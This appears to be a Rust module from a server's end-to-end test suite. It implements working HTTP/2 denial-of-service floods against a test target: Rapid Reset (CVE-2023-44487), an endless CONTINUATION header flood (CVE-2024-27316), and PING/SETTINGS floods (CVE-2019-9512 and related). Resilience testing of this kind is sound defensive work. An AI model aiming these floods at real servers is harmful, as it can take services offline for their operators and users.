//! Attacks that HTTP/2 makes possible.

use std::io::Write as _;
use std::net::TcpStream;

use tidings_e2e::http2::{END_STREAM, frame, get, kind, open, read};

use super::Target;
use super::attacks::PAUSE;

/// Opens a connection, writes what `next` gives until it is closed or time is over, and tells how often.
fn flood(target: &Target, mut next: impl FnMut(u32) -> Vec<u8>) -> usize {
    let mut times = 0;
    while target.goes_on() {
        let Ok(mut stream) = open(target.http, &[]) else {
            continue;
        };
        let reader = stream.try_clone().map(drain);
        for number in 0.. {
            if !target.goes_on() || stream.write_all(&next(number)).is_err() {
                break;
            }
            times += 1;
            if number % 64 == 0 {
                std::thread::sleep(PAUSE);
            }
        }
        stream
            .shutdown(std::net::Shutdown::Both)
            .unwrap_or_default();
        if let Ok(reader) = reader {
            reader.join().expect("it only reads");
        }
    }
    times
}

/// Reads what the server says until it closes.
fn drain(mut stream: TcpStream) -> std::thread::JoinHandle<()> {
    tidings_e2e::spawn(move || while read(&mut stream).is_ok() {})
}

/// Requests that are taken back at once (CVE-2023-44487).
pub fn rapid_reset(target: &Target) -> usize {
    flood(target, |number| {
        let id = (2 * number + 1) & 0x7fff_ffff;
        let request = get(id, "/v1/topics/news?after=earliest", &[]);
        let reset = frame(kind::RST_STREAM, 0, id, &8_u32.to_be_bytes());
        [request, reset].concat()
    })
}

/// Header fields without an end (CVE-2024-27316).
pub fn endless_fields(target: &Target) -> usize {
    let field = tidings_e2e::http2::fields(&[("x", &"y".repeat(100))]);
    flood(target, |number| {
        let kind = if number == 0 {
            kind::HEADERS
        } else {
            kind::CONTINUATION
        };
        let flags = if number == 0 { END_STREAM } else { 0 };
        frame(kind, flags, 1, &field)
    })
}

/// Pings, settings and frames without a byte, which all call for an answer (CVE-2019-9512, -9515, -9518).
pub fn pings(target: &Target) -> usize {
    flood(target, |number| match number % 3 {
        0 => frame(kind::PING, 0, 0, &[0; 8]),
        1 => frame(kind::SETTINGS, 0, 0, &[]),
        _ => frame(kind::PING, 0, 0, &[1; 8]),
    })
}
